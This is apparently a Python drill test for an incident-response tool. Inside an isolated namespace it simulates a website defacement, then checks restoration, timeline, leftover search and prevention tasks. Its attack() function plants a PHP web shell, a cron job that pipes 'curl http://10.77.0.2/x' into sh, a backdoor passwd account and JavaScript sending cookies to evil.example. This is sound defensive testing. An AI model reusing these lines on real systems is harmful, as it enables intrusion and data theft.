#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The actions of case 2's playbook through the whole product: site.restore,
timeline.collect, site.aftermath and prevention.propose, after a defacement
that left a web shell, switches of the web server, a timed job and an account
behind.

Hinoban runs in a mount namespace of its own in which /etc/passwd, /etc/cron.d,
/etc/nginx and /var/log are this test's: what an intruder leaves is left there,
and nothing of this machine is changed."""
import os
import shutil
import signal
import subprocess
import sys
import time

SOURCE = os.environ['HB_SOURCE_ROOT']
BUILD = os.environ['HB_BUILD_ROOT']
sys.path.insert(0, SOURCE + '/drills/lib')
import bed as lab  # noqa: E402

OURS = ('/etc/passwd', '/etc/cron.d', '/etc/nginx', '/var/log')
count = 0


def ok(good, name, why=''):
    global count
    count += 1
    print(('ok' if good else 'not ok') + f' {count} - {name}', flush=True)
    if not good:
        print('\n'.join('# ' + line for line in str(why).split('\n')[-40:]))
    return good


class Site(lab.Bed):
    def __init__(self):
        super().__init__(BUILD + '/src/hinoban', SOURCE, BUILD + '/po')
        os.makedirs(self.web + '/upload')
        for name, text in (('index.html', '<h1>City</h1>\n'),
                           ('about.html', '<p>About</p>\n'),
                           ('app.js', 'var a = 1;\n'),
                           ('.htaccess', 'Options -Indexes\n')):
            self.write(name, text)
        self.network()
        self.install(reflex=False)
        conf = self.root + '/etc/hinoban/hinoban.yaml'
        with open(conf) as f:
            text = f.read()
        at = text.index('    number: ')
        with open(conf, 'w') as f:
            f.write(text[:at] + '    ignore:\n      - upload\n' + text[at:])
        self.hinoban('site', 'publish', 'drill', self.web, '--quiet')
        self.own_etc()
        self.nginx()
        log = self.top + '/nginx/access.log'
        lab.until(lambda: os.path.exists(log), 20, 0.05)
        os.mkdir(self.m + '/var/log/nginx')
        os.link(log, self.m + '/var/log/nginx/access.log')
        self.supervise()

    def own_etc(self):
        """What stands in for the machine's own."""
        self.m = self.top + '/machine'
        os.makedirs(self.m + '/etc/cron.d')
        os.makedirs(self.m + '/etc/nginx')
        os.makedirs(self.m + '/var/log')
        shutil.copy('/etc/passwd', self.m + '/etc/passwd')
        with open(self.m + '/etc/nginx/nginx.conf', 'w') as f:
            f.write('http { access_log /var/log/nginx/access.log; }\n')
        stamp = time.strftime('%Y-%m-%dT%H:%M:%S+00:00', time.gmtime())
        with open(self.m + '/var/log/auth.log', 'w') as f:
            f.write(f'{stamp} city sshd[7]: Accepted password for webmaster '
                    'from 10.77.0.2 port 4711 ssh2\n')

    def start(self, argv, log, space=None):
        if argv[-1] == 'supervise':
            mounts = ''.join(f'mount --bind {self.m}{p} {p} && ' for p in OURS)
            argv = ['unshare', '--mount', '--propagation', 'private', '--',
                    'sh', '-c', mounts + 'exec "$0" supervise', argv[0]]
        return super().start(argv, log, space)

    def write(self, rel, text):
        with open(f'{self.web}/{rel}', 'w') as f:
            f.write(text)

    def read(self, rel):
        with open(f'{self.web}/{rel}') as f:
            return f.read()

    # ---- people ----
    def tasks(self):
        return [t for t in self.ask('task', 'list') or [] if t['state'] == 1]

    def task(self, step):
        for t in self.tasks():
            if t['step'].split('#')[0] == step:
                return str(t['id'])
        return None

    def stands(self, step, name, seconds=60):
        there = lab.until(lambda: self.task(step), seconds, 0.1) is not None
        return ok(there, name, self.shown() + self.log())

    def answer(self, step, words, who=lab.OFFICER):
        if not self.stands(step, f'asked: {step}'):
            raise RuntimeError(step)
        r = self.run(self.program, 'task', 'done', self.task(step), words,
                     uid=who, check=False)
        ok(r.returncode == 0, f'answered: {step}', r.stderr)

    # ---- the record ----
    def shown(self):
        return self.officer('incident', 'show', '1', check=False).stdout

    def moments(self, kind):
        shown = self.ask('incident', 'show', '1') or [{}, []]
        return [m['text'] for part in shown if isinstance(part, list)
                for m in part if m.get('kind') == kind]

    def told(self, kind, words, name):
        ok(any(words in t for t in self.moments(kind)), name,
           self.moments(kind))


def attack(s):
    """Comes in by a request, defaces, and leaves things behind."""
    code = ('import sys, urllib.request, urllib.error\n'
            'try:\n'
            '    urllib.request.urlopen(sys.argv[1], b"cmd=id", timeout=10)\n'
            'except urllib.error.HTTPError:\n'
            '    pass\n')
    s.run('/usr/bin/python3', '-c', code, s.url + 'upload.php', space='evil')
    s.write('upload/cat.jpg.php', '<?php @eval($_POST["x"]); ?>\n')
    s.write('upload/.htaccess', 'AddType application/x-httpd-php .jpg\n')
    with open(s.m + '/etc/cron.d/sysupdate', 'w') as f:
        f.write('* * * * * root curl http://10.77.0.2/x | sh\n')
    with open(s.m + '/etc/passwd', 'a') as f:
        f.write('eve:x:4711:4711::/tmp:/bin/sh\n')
    s.write('index.html', 'HACKED\n')
    s.write('app.js', 'fetch("//evil.example/" + document.cookie)\n')
    s.write('.htaccess', 'Options +Indexes\n')


def restore(s):
    ok(lab.until(lambda: s.ask('incident', 'list'), 30, 0.1) is not None,
       'an incident stands open', s.log())
    s.stands('restore!2', 'site.restore: the officer is asked first')
    ok(s.read('index.html') == 'HACKED\n', 'and nothing was touched')
    s.hinoban('reflex', 'allow', '--officer', 'officer', '--site', 'drill',
              '--for', '1h', '--reason', 'incident 1')
    s.answer('restore!2', 'allowed for an hour')
    ok(lab.until(lambda: s.read('index.html') == '<h1>City</h1>\n' and
                 s.read('.htaccess') == 'Options -Indexes\n' and
                 s.read('app.js') == 'var a = 1;\n', 60, 0.1) is not None,
       'all of it is as it was published', s.shown())
    for name in ('index.html', 'app.js', '.htaccess'):
        s.told('file.changed', name, f'the timeline tells that {name} was '
               'changed')
        ok(lab.until(lambda: any(name in t for t in
                                 s.moments('file.restored')), 20, 0.1)
           is not None, 'and put back', s.shown())
    ok(os.path.exists(s.web + '/upload/cat.jpg.php'),
       'what lies where the guard does not look stays for the search')


def contain(s):
    s.answer('consult/consult', 'yes')
    s.answer('consult/channel', 'no')
    s.answer('route', 'yes, nobody knows how')
    r = s.officer('task', 'decline', s.task('decide-private') or
                  (s.stands('decide-private', 'asked: private') and
                   s.task('decide-private')),
                  'restored within a minute; again at noon', check=False)
    ok(r.returncode == 0, 'not private', r.stderr)
    s.stands('summarise', 'asked beside it: what is known so far')
    r = s.officer('task', 'done', s.task('summarise'), 'see there',
                  check=False)
    ok(r.returncode != 0 and 'summary' in r.stderr,
       'the first report waits for what it prints', r.stderr)
    s.officer('fact', 'set', '1', 'summary', 'Three pages were changed.',
              'noticed_at', '2026-04-01T09:30:00+09:00', 'systems',
              'the site', 'business_impact', '?', '--from', 'the desk')
    s.answer('summarise', 'see there')
    s.answer('send-first-report', 'by telephone')
    s.answer('personal-data/ask-personal-data', 'no')
    s.answer('personal-data/inside/inside', 'no')
    s.answer('input-pages', 'no, it takes no entries')
    s.answer('visitors', 'no, see #1')


def look_around(s):
    s.stands('remove-leftovers', 'what was found waits for the administrator',
             90)
    s.told('cause.web', 'POST /upload.php',
           'timeline.collect: the request that changed something')
    s.told('cause.login', 'webmaster', 'and the log-in of that day')
    ok(s.moments('cause.running'), 'and programs of the web server',
       s.moments('incident.note'))
    for what, words in (('a web shell', 'cat.jpg.php'),
                        ('a switch of the web server', 'upload/.htaccess'),
                        ('a timed job', '/etc/cron.d/sysupdate'),
                        ('an account', 'eve')):
        s.told('search.hit', words, f'site.aftermath: {what}')
    s.told('action.done', 'Look for web shells', 'as a step of the machine')
    ok(not os.path.exists('/etc/cron.d/sysupdate') and
       'eve:x:4711' not in open('/etc/passwd').read(),
       'this machine has none of it')
    r = s.officer('task', 'done', s.task('remove-leftovers'), 'gone',
                  check=False)
    ok(r.returncode != 0 and 'evidence' in r.stderr,
       'removing it without evidence is refused', r.stderr)
    s.answer('remove-leftovers', 'kept as #1, then removed')
    s.stands('skimming-late', 'a changed script asks about payments')
    s.answer('skimming-late', 'no payments there')
    s.answer('hypothesis', 'yes, the password of webmaster, see #1')
    s.answer('close-route', 'yes, nobody has changed it')
    s.answer('close-again', 'no, it was changed')


def prevent(s):
    s.stands('own-prevention', 'the measures want owners')
    s.stands('contracts/look-up', 'and wait for no contract')
    s.stands('police/call', 'nor for the police')
    s.officer('fact', 'set', '1', 'prevention', 'as decided',
              '--from', 'the meeting')
    measures = [t for t in s.tasks() if t['step'].startswith('measure:')]
    steps = {t['step'] for t in measures}
    ok('measure:drill.case2' in steps and 'measure:web.diagnosis' in steps,
       'prevention.propose: what does not hold stands as tasks', steps)
    ok('measure:files.reflex' not in steps and
       'measure:people.two' not in steps, 'what holds does not', steps)
    ok(all(t['due_ns'] > 0 and t['owner'] == '' for t in measures),
       'with a date, and nobody yet', measures)
    s.told('action.done', f'({len(measures)})', 'the timeline tells how many')
    own = s.task('own-prevention')
    r = s.officer('task', 'done', own, 'all decided', check=False)
    ok(r.returncode != 0 and 'owner' in r.stderr,
       'without owners that is refused', r.stderr)
    diagnosis = s.task('measure:web.diagnosis')
    r = s.officer('task', 'done', diagnosis, 'we had one', check=False)
    ok(r.returncode != 0 and 'owner' in r.stderr,
       'a measure of nobody is not done', r.stderr)
    for t in measures:
        s.officer('task', 'assign', str(t['id']), 'deputy', '--within', '7d')
    ok(all(t['owner'] == 'deputy' for t in s.tasks()
           if t['step'].startswith('measure:')), 'each has an owner')
    answered(s, diagnosis)
    r = s.officer('task', 'done', own, 'all decided', check=False)
    ok(r.returncode == 0, 'now they have owners', r.stderr)
    s.stands('drill-again', 'and are to be proven')
    r = s.officer('task', 'done', s.task('drill-again'), 'we looked',
                  check=False)
    ok(r.returncode != 0 and 'drill' in r.stderr, 'by a drill only', r.stderr)
    r = s.officer('incident', 'state', '1', 'closed', check=False)
    ok(r.returncode != 0, 'the incident does not close before', r.stdout)


def answered(s, diagnosis):
    """Words close no measure: a check does, or a signature."""
    drill = s.task('measure:drill.case2')
    r = s.officer('task', 'done', drill, 'we looked', check=False)
    ok(r.returncode != 0 and 'drill.case2' in r.stderr,
       'a measure that its check does not confirm is not done', r.stderr)
    r = s.officer('task', 'done', diagnosis, 'we had one', check=False)
    ok(r.returncode != 0 and 'signed' in r.stderr,
       'what no machine knows wants a signature', r.stderr)
    s.officer('decide', 'control:web.diagnosis', 'pass', 'by X on Monday')
    r = s.officer('task', 'done', diagnosis, 'by X on Monday', check=False)
    ok(r.returncode == 0, 'with it, it is done', r.stderr)
    waf = s.task('measure:web.waf')
    if waf is None:
        return
    r = s.officer('task', 'decline', waf, 'too dear', check=False)
    ok(r.returncode != 0 and 'decision' in r.stderr,
       'not doing it wants a decision with reason and review', r.stderr)
    s.officer('decide', 'control:web.waf', 'against', 'too dear', '--for',
              '90d')
    r = s.officer('task', 'decline', waf, 'too dear', check=False)
    ok(r.returncode == 0, 'considered is enough', r.stderr)


def inside():
    signal.alarm(550)
    s = Site()
    try:
        attack(s)
        restore(s)
        contain(s)
        look_around(s)
        prevent(s)
    except RuntimeError as e:
        ok(False, 'the story goes on', e)
    finally:
        s.stop()
    print(f'1..{count}')


def main():
    # Of its own processes too: another nginx of this machine is not asked.
    apart = ['unshare', '--mount', '--pid', '--fork', '--mount-proc']
    if sys.argv[1:] == ['inside']:
        inside()
        return
    if os.geteuid() != 0:
        print('1..0 # SKIP needs root')
        return
    for tool in ('nginx', 'nsenter', 'unshare', 'ip'):
        if shutil.which(tool, path='/usr/sbin:/usr/bin:/sbin:/bin') is None:
            print(f'1..0 # SKIP no {tool}')
            return
    if subprocess.run([*apart, 'true'],
                      stderr=subprocess.DEVNULL).returncode != 0:
        print('1..0 # SKIP no name spaces')
        return
    os.execvp('unshare', [*apart, sys.executable, __file__, 'inside'])


if __name__ == '__main__':
    main()
